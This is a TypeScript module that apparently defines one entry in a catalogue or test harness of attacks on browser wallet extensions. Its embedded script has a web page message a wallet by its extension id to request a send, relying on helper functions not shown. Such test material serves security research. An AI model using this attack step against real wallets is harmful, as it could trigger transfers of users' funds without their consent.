import type { Attack } from '../Attack.ts';

/** A wallet that any page may call by its id. */
export const attack: Attack = {
  entry: 'chrome.runtime.sendMessage',
  mechanism: 'clean realm',
  discovers: false,
  script: `
chrome.runtime.sendMessage(kit.walletId, kit.rpc(kit.send()), () => undefined);
`,
};
